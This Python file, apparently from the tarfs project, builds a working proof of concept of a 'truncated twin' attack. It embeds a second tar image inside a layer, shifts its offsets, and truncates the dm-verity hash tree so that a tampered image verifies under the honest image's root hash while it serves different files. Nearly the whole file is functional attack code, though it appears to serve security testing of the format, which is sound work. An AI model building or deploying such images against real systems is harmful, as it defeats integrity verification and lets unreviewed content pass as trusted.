# SPDX-License-Identifier: GPL-2.0
"""
The truncated twin: what a host makes of a layer that embeds another one.

Copyright (C) 2026 The tarfs authors

A file of the layer has, at a multiple of 4096, a second tar with index and
superblock, all offsets of which are from the layer's begin.  The twin is cut
behind that superblock: the first data blocks, the first blocks of each level
of the hash tree, and a trailer with the smaller number.  dm-verity takes it
with the root hash of the honest image.

As a program: python3 truncated_twin.py MKTARFS OUTER_FORMAT INNER_FORMAT DIRECTORY
makes honest.img and twin.img in DIRECTORY and prints the root hash and the
numbers of data blocks.
"""
import io
import json
import os
import stat
import struct
import subprocess
import sys
import tarfile
from dataclasses import dataclass

from siphash import siphash

BLOCK, SUPER, SLOTS = 4096, 512, 128
MAGIC = 0xff0a327366726174
COMBINATIONS = ((2, 2), (1, 1), (2, 1), (1, 2))


def get(data, offset, kind="<Q"):
    return struct.unpack_from(kind, data, offset)[0]


def add(data, offset, value, kind="<Q"):
    struct.pack_into(kind, data, offset, get(data, offset, kind) + value)


# ---- the layer ----

def header(name, size):
    info = tarfile.TarInfo(name)
    info.size = size
    return info.tobuf(tarfile.USTAR_FORMAT)


def members(files):
    """Return a tar of {name: content}, all of them executable."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w",
                      format=tarfile.USTAR_FORMAT) as tar:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.mode, info.size = 0o755, len(content)
            tar.addfile(info, io.BytesIO(content))
    return out.getvalue()


def move1(device, shift):
    table, count = get(device, len(device) - SUPER), get(device, len(device) -
                                                         SUPER + 8)
    for at in range(table, table + 32 * count, 32):
        kind = stat.S_IFMT(get(device, at, "<H"))
        size, offset = get(device, at + 16), get(device, at + 24)
        if kind == stat.S_IFDIR:
            for entry in range(offset, offset + size, 32):
                add(device, entry + 8, shift)
        if size and kind in (stat.S_IFDIR, stat.S_IFREG, stat.S_IFLNK):
            add(device, at + 24, shift)
    add(device, len(device) - SUPER, shift)


def move2(device, shift):
    top = len(device) - SUPER
    sections = range(top + 128, top + 256, 16)
    table, count = get(device, sections[0]), get(device, top + 20, "<I")
    if get(device, sections[3]):
        raise ValueError("attributes are not moved")
    for at in range(table, table + 64 * count, 64):
        mode, flags = get(device, at, "<H"), get(device, at + 2, "<H")
        if get(device, at + 40):
            add(device, at + 40, shift)
        if stat.S_ISDIR(mode) and get(device, at + 52, "<I"):
            add(device, at + 56, shift // BLOCK, "<I")
        if stat.S_ISREG(mode) and flags & 2:
            add(device, at + 48, shift)
    for at in sections:
        if get(device, at + 8):
            add(device, at, shift)
    add(device, top + 40, shift)
    add(device, top + 48, shift)
    struct.pack_into("<Q", device, top + 8, 0)
    struct.pack_into("<Q", device, top + 8, siphash(0, 0, device[top:]))


def moved(device, shift):
    """
    Return the data device for @shift bytes, whole blocks, in front of it.
    """
    device = bytearray(device)
    if get(device, len(device) - SUPER) == MAGIC:
        move2(device, shift)
    else:
        move1(device, shift)
    return bytes(device)


def open_end(tar):
    """Return the tar without its end, ready for another member."""
    with tarfile.open(fileobj=io.BytesIO(tar)) as archive:
        last = archive.getmembers()[-1]
    size = last.size if last.isreg() else 0
    return tar[:last.offset_data + size + -size % 512]


def embed(tar, device, name="base.img"):
    """
    Return the tar with a file added whose content is the data device, and the
    end of the content in blocks.
    """
    tar = open_end(tar)
    pad = -(len(tar) + 2 * 512) % BLOCK
    tar += header("base.pad", pad) + bytes(pad) + header(name, len(device))
    blocks = (len(tar) + len(device)) // BLOCK
    return tar + moved(device, len(tar)) + bytes(1024), blocks


# ---- the image ----

def levels(blocks):
    """Return the number of blocks of each level of the tree, root first."""
    counts = []
    while blocks > 1:
        blocks = -(-blocks // SLOTS)
        counts.insert(0, blocks)
    return counts


def trailer(blocks):
    return bytes(BLOCK - SUPER) + struct.pack("<IIQ", BLOCK, BLOCK,
                                              blocks).ljust(SUPER, b"\0")


def data_blocks(image):
    return get(image, len(image) - SUPER + 8)


def truncated(image, blocks):
    """Return the image's twin of @blocks data blocks."""
    honest = levels(data_blocks(image))
    wanted = levels(blocks)
    if len(honest) != len(wanted):
        raise ValueError(f"trees of {len(honest)} and {len(wanted)} levels")
    at, tree = data_blocks(image) * BLOCK, b""
    for have, want in zip(honest, wanted):
        tree += image[at:at + want * BLOCK]
        at += have * BLOCK
    return image[:blocks * BLOCK] + tree + trailer(blocks)


@dataclass
class Attack:
    """
    An image and its twin, the root hash of both, and their numbers of data
    blocks.  @tar is what the honest image was made of.
    """
    tar: bytes
    honest: bytes
    twin: bytes
    root_hash: str
    blocks: int
    twin_blocks: int


def mktarfs(program, tar, path, index_format, *options):
    done = subprocess.run([program, "--json", f"--format={index_format}",
                           *options, "-", path], input=tar, check=True,
                          stdout=subprocess.PIPE)
    with open(path, "rb") as file:
        return file.read(), json.loads(done.stdout)


def attack(program, directory, formats, outer, inner):
    """
    Embed a tar in another, with indexes of two formats.

    @program is mktarfs, @formats are those of the outer and the inner tar.
    """
    path = os.path.join(directory, "attack.tmp")
    device, _ = mktarfs(program, inner, path, formats[1], "--no-verity")
    tar, blocks = embed(outer, device)
    image, said = mktarfs(program, tar, path, formats[0])
    os.unlink(path)
    return Attack(tar, image, truncated(image, blocks), said["root_hash"],
                  data_blocks(image), blocks)


def main(argv):
    if len(argv) != 5:
        print(__doc__, file=sys.stderr)
        return 2
    made = attack(argv[1], argv[4], (int(argv[2]), int(argv[3])),
                  members({"reviewed": b"reviewed\n"}),
                  members({"evil": b"evil\n"}))
    for name, image in (("honest", made.honest), ("twin", made.twin)):
        with open(os.path.join(argv[4], name + ".img"), "wb") as file:
            file.write(image)
    print(made.root_hash, made.blocks, made.twin_blocks)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
